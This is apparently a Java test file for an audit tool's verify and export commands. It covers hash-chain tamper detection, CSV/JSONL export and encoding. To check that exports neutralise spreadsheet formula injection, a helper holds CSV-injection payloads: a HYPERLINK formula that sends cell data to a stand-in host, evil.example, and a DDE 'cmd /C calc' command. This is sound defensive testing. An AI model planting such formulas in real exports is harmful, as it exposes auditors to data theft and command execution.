package dev.sessionguard.audit;

import static dev.sessionguard.support.Org.ADMIN;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import dev.sessionguard.audit.AuditRecord.Outcome;
import dev.sessionguard.audit.TargetResult.Status;
import dev.sessionguard.config.Secret;
import dev.sessionguard.storage.Database;
import dev.sessionguard.storage.JdbcAuditStore;
import dev.sessionguard.support.MainProcess;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code java ... Main audit verify|export} as its own process with DATABASE_URL as its whole environment:
 * no Slack variables, so an auditor can run it with nothing but the database.
 */
@Tag("slow")
class AuditCommandsProcessTest {

    static final String TRICKY_REASON = "phone lost, \"maybe\" stolen";
    static final Instant FIRST = Instant.now().truncatedTo(ChronoUnit.MILLIS).minus(3, ChronoUnit.HOURS);

    @TempDir
    Path dir;

    String databaseUrl;
    List<AuditStore.StoredRecord> stored;

    @BeforeEach
    void threeRecords() {
        databaseUrl = "jdbc:sqlite:" + dir.resolve("audit.db");
        try (Database db = Database.open(new Secret(databaseUrl))) {
            JdbcAuditStore store = new JdbcAuditStore(db, Clock.systemUTC());
            stored = List.of(
                    store.append(reset(FIRST, "offboarding", Outcome.SUCCEEDED, "W0000ALICE")),
                    store.append(reset(FIRST.plusSeconds(60), "laptop stolen", Outcome.SUCCEEDED, "W0000BOB")),
                    store.append(new AuditRecord(FIRST.plusSeconds(120), "W0000MEMBER", AuditRecord.SESSION_RESET,
                            Outcome.REFUSED, "Web only", TRICKY_REASON, "not an org admin",
                            List.of(new TargetResult("W0000CAROL", Status.NOT_ATTEMPTED, "not_org_admin",
                                    "Not attempted")))));
        }
    }

    // ------------------------------------------------------------------ verify

    @Test
    void verifyOfAnIntactChainExitsZeroAndCountsTheRecords() {
        MainProcess.Finished run = audit("verify");

        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.out().strip())
                .isEqualTo("Audit chain intact: 3 records, head sha256 " + stored.get(2).hash() + ".");
    }

    @Test
    void verifyNamesARecordWhoseBodyWasEdited() {
        sql("UPDATE audit_record SET body = replace(body, 'laptop', 'lapt0p') WHERE seq = 2");

        MainProcess.Finished run = audit("verify");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(1);
        assertThat(run.out()).contains("BROKEN at record #2").contains("altered").doesNotContain("intact");
    }

    @Test
    void verifyNamesTheLastRecordWhenItWasDeleted() {
        sql("DELETE FROM audit_outbox WHERE seq = 3");
        sql("DELETE FROM audit_record WHERE seq = 3");

        MainProcess.Finished run = audit("verify");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(1);
        assertThat(run.out()).contains("BROKEN at record #3").contains("removed");
    }

    @Test
    void verifyNamesARecordWhoseActorColumnWasChangedButNotItsHashedBody() {
        sql("UPDATE audit_record SET actor_id = 'W0000OTHER' WHERE seq = 1");

        MainProcess.Finished run = audit("verify");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(1);
        assertThat(run.out()).contains("BROKEN at record #1").contains("columns disagree");
    }

    // ------------------------------------------------------------------ export

    @Test
    void jsonlExportIsOneVerifiableRecordALineInChainOrderWithLogLinesOnlyOnStderr() throws IOException {
        MainProcess.Finished run = auditLoggingEverything("export", "--format", "jsonl");

        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.err()).as("the pool and the migrations did log, to stderr").contains("DEBUG");
        List<String> lines = run.out().lines().toList();
        assertThat(lines).hasSize(3);
        String prevHash = AuditChain.GENESIS;
        for (int i = 0; i < lines.size(); i++) {
            JsonObject line = JsonParser.parseString(lines.get(i)).getAsJsonObject();
            assertThat(line.keySet()).containsExactly("seq", "record", "prev_hash", "hash");
            assertThat(line.get("seq").getAsLong()).isEqualTo(i + 1);
            assertThat(line.get("prev_hash").getAsString()).isEqualTo(prevHash);
            // Anyone holding the export can re-check the chain without the database.
            String canonical = line.get("record").toString();
            assertThat(AuditChain.hash(prevHash, i + 1, canonical)).isEqualTo(line.get("hash").getAsString())
                    .isEqualTo(stored.get(i).hash());
            assertThat(AuditCodec.parse(canonical)).isEqualTo(stored.get(i).record());
            prevHash = line.get("hash").getAsString();
        }
    }

    @Test
    void csvExportSinceTomorrowIsTheHeaderAlone() {
        String tomorrow = LocalDate.now(ZoneOffset.UTC).plusDays(1).toString();

        MainProcess.Finished run = audit("export", "--since", tomorrow, "--format", "csv");

        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.out().lines().toList()).containsExactly(
                "seq,at,actor_id,action,outcome,scope,reason,detail,targets,prev_hash,hash");
    }

    @Test
    void csvExportHasAHeaderAndOneRowPerRecordAndKeepsCommasAndQuotesInReasons() throws IOException {
        MainProcess.Finished run = audit("export", "--format", "csv");

        assertThat(run.exitCode()).as(run.describe()).isZero();
        List<CSVRecord> rows;
        try (CSVParser csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(run.out()))) {
            assertThat(csv.getHeaderNames()).containsExactly("seq", "at", "actor_id", "action", "outcome", "scope",
                    "reason", "detail", "targets", "prev_hash", "hash");
            rows = csv.getRecords();
        }
        assertThat(rows).extracting(r -> r.get("seq")).containsExactly("1", "2", "3");
        assertThat(rows).extracting(r -> r.get("hash")).containsExactly(
                stored.get(0).hash(), stored.get(1).hash(), stored.get(2).hash());
        CSVRecord refused = rows.get(2);
        assertThat(refused.get("reason")).isEqualTo(TRICKY_REASON);
        assertThat(refused.get("at")).isEqualTo(FIRST.plusSeconds(120).toString());
        assertThat(refused.get("outcome")).isEqualTo("REFUSED");
        assertThat(refused.get("targets")).isEqualTo("W0000CAROL:NOT_ATTEMPTED(not_org_admin)");
    }

    /** What a spreadsheet takes for the start of a formula (OWASP's CSV injection list, and NUL from ASVS 1.2.10). */
    static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r", "\0");

    @Test
    void csvExportQuotesEveryCellASpreadsheetWouldTakeForAFormulaAndJsonlKeepsTheExactText() throws IOException {
        List<AuditStore.StoredRecord> formulas = appendRecordsStartingWithEachFormulaCharacter();

        MainProcess.Finished csvRun = audit("export", "--format", "csv");

        assertThat(csvRun.exitCode()).as(csvRun.describe()).isZero();
        List<CSVRecord> rows = csvRows(csvRun.out());
        assertThat(rows).hasSize(stored.size() + formulas.size());
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(FORMULA_STARTS).as("row %s, cell %s", row.get("seq"), cell)
                        .noneMatch(cell::startsWith);
            }
        }
        for (AuditStore.StoredRecord f : formulas) {
            CSVRecord row = rows.get((int) f.seq() - 1);
            AuditRecord r = f.record();
            assertThat(row.get("scope")).isEqualTo("'" + r.scope());
            assertThat(row.get("reason")).isEqualTo("'" + r.reason());
            assertThat(row.get("detail")).isEqualTo("'" + r.detail());
            assertThat(row.get("targets")).startsWith("'" + r.targets().get(0).userId() + ":");
            assertThat(row.get("hash")).isEqualTo(f.hash());
        }

        MainProcess.Finished jsonlRun = audit("export", "--format", "jsonl");

        assertThat(jsonlRun.exitCode()).as(jsonlRun.describe()).isZero();
        List<String> lines = jsonlRun.out().lines().toList();
        for (AuditStore.StoredRecord f : formulas) {
            String line = lines.get((int) f.seq() - 1);
            // As docs/SECURITY.md tells an auditor: the record's exact text sits between these two members.
            String record = line.substring(line.indexOf("\"record\":") + 9, line.lastIndexOf(",\"prev_hash\":"));
            assertThat(record).isEqualTo(AuditCodec.canonical(f.record()));
            assertThat(AuditChain.hash(f.prevHash(), f.seq(), record)).isEqualTo(f.hash());
            assertThat(AuditCodec.parse(record)).isEqualTo(f.record());
        }
    }

    @Test
    void exportsAreUtf8WhateverTheLocaleSoNonAsciiRecordsStillVerify() throws IOException {
        // The process has no LANG or LC_ALL, as under cron or in a bare container: Java's default charset is ASCII.
        AuditStore.StoredRecord zoe = append(new AuditRecord(FIRST.plusSeconds(180), ADMIN,
                AuditRecord.SESSION_RESET, Outcome.SUCCEEDED, "All sessions", "Zoë’s phone 📱 — ünïcødé", "日本語",
                List.of(new TargetResult("W0000ZOE", Status.DONE, null, "Déconnectée"))));

        MainProcess.Finished jsonlRun = audit("export", "--format", "jsonl");
        MainProcess.Finished csvRun = audit("export", "--format", "csv");

        assertThat(jsonlRun.exitCode()).as(jsonlRun.describe()).isZero();
        JsonObject line = JsonParser.parseString(jsonlRun.out().lines().toList().get(3)).getAsJsonObject();
        assertThat(AuditCodec.parse(line.get("record").toString())).isEqualTo(zoe.record());
        assertThat(AuditChain.hash(zoe.prevHash(), zoe.seq(), line.get("record").toString())).isEqualTo(zoe.hash());
        assertThat(csvRun.exitCode()).as(csvRun.describe()).isZero();
        CSVRecord row = csvRows(csvRun.out()).get(3);
        assertThat(row.get("reason")).isEqualTo("Zoë’s phone 📱 — ünïcødé");
        assertThat(row.get("detail")).isEqualTo("日本語");
    }

    @Test
    void exportInAnUnknownFormatIsAUsageErrorWithNothingOnStdout() {
        MainProcess.Finished run = audit("export", "--format", "xml");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(2);
        assertThat(run.err()).contains("--format takes csv or jsonl");
        assertThat(run.out()).isEmpty();
    }

    // ------------------------------------------------------------------ environment

    @Test
    void withoutDatabaseUrlTheCommandsUseSessionGuardDbInTheWorkingDirectory() throws IOException {
        Path workDir = Files.createDirectory(dir.resolve("app-workdir"));
        // As the app leaves it on its first start; the commands themselves never create it (MainCommandsProcessTest).
        Database.open(new Secret("jdbc:sqlite:" + workDir.resolve("session-guard.db"))).close();

        MainProcess.Finished run = MainProcess.run(workDir, "verify", Map.of(), "audit", "verify");

        assertThat(run.exitCode()).as(run.describe()).isZero();
        assertThat(run.out().strip()).isEqualTo("Audit chain intact: 0 records.");
    }

    @Test
    void verifyOfADatabaseThatIsNotThereIsNotReportedAsABrokenChain() {
        Path file = dir.resolve("no-such-dir").resolve("audit.db");

        MainProcess.Finished run = MainProcess.run(dir, "unreadable",
                Map.of("DATABASE_URL", "jdbc:sqlite:" + file + "?busy_timeout=1"), "audit", "verify");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(AuditCommands.UNREADABLE);
        assertThat(run.out()).isEmpty();
        // A SQLite path is no secret, and naming it is what lets someone find the right file; the query is left out.
        assertThat(run.err().lines().toList()).singleElement().asString()
                .startsWith("No audit database at " + file + " (").doesNotContain("busy_timeout");
        assertThat(file.getParent()).doesNotExist();
    }

    @Test
    void verifyOfADatabaseThatCannotBeOpenedIsNotReportedAsABrokenChain() throws IOException {
        Path notADatabase = Files.writeString(dir.resolve("not-a-database.db"), "this is not SQLite");

        MainProcess.Finished run = MainProcess.run(dir, "unreadable",
                Map.of("DATABASE_URL", "jdbc:sqlite:" + notADatabase), "audit", "verify");

        assertThat(run.exitCode()).as(run.describe()).isEqualTo(AuditCommands.UNREADABLE);
        assertThat(run.out()).isEmpty();
        assertThat(run.err().lines().toList()).singleElement().asString()
                .startsWith("Could not read the audit trail").doesNotContain("not-a-database");
    }

    // ------------------------------------------------------------------ helpers

    private MainProcess.Finished audit(String... args) {
        return MainProcess.run(dir, "audit", Map.of("DATABASE_URL", databaseUrl), prepend("audit", args));
    }

    /**
     * With a Logback configuration that writes every DEBUG line to the console, as an operator's might:
     * the command itself logs nothing, so without it "no log lines on stdout" would pass vacuously.
     */
    private MainProcess.Finished auditLoggingEverything(String... args) throws IOException {
        Path config = Files.writeString(dir.resolve("logback-everything.xml"), String.join("\n",
                "<configuration>",
                "  <appender name=\"CONSOLE\" class=\"ch.qos.logback.core.ConsoleAppender\">",
                "    <encoder><pattern>%level %logger - %msg%n</pattern></encoder>",
                "  </appender>",
                "  <root level=\"DEBUG\"><appender-ref ref=\"CONSOLE\"/></root>",
                "</configuration>"));
        return MainProcess.run(dir, "audit", Map.of("DATABASE_URL", databaseUrl),
                List.of("-Dlogback.configurationFile=" + config), prepend("audit", args));
    }

    private static String[] prepend(String first, String... rest) {
        String[] all = new String[rest.length + 1];
        all[0] = first;
        System.arraycopy(rest, 0, all, 1, rest.length);
        return all;
    }

    private static AuditRecord reset(Instant at, String reason, Outcome outcome, String target) {
        return new AuditRecord(at, ADMIN, AuditRecord.SESSION_RESET, outcome, "All sessions", reason, null,
                List.of(new TargetResult(target, Status.DONE, null, "Signed out of all sessions")));
    }

    /** One record for each character: its scope, reason, detail, target and the target's words start with it. */
    private List<AuditStore.StoredRecord> appendRecordsStartingWithEachFormulaCharacter() {
        List<AuditStore.StoredRecord> appended = new ArrayList<>();
        for (int i = 0; i < FORMULA_STARTS.size(); i++) {
            String c = FORMULA_STARTS.get(i);
            appended.add(append(new AuditRecord(FIRST.plusSeconds(200 + i), ADMIN, AuditRecord.SESSION_RESET,
                    Outcome.FAILED, c + "All sessions", c + "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
                    c + "cmd|' /C calc'!A0", List.of(new TargetResult(c + "W0000EVE", Status.FAILED,
                            c + "user_not_found", c + "2+5+cmd|' /C calc'!A0")))));
        }
        return appended;
    }

    private AuditStore.StoredRecord append(AuditRecord record) {
        try (Database db = Database.open(new Secret(databaseUrl))) {
            return new JdbcAuditStore(db, Clock.systemUTC()).append(record);
        }
    }

    private static List<CSVRecord> csvRows(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    private void sql(String statement) {
        try (Connection c = DriverManager.getConnection(databaseUrl); Statement s = c.createStatement()) {
            assertThat(s.executeUpdate(statement)).as(statement).isEqualTo(1);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }
}
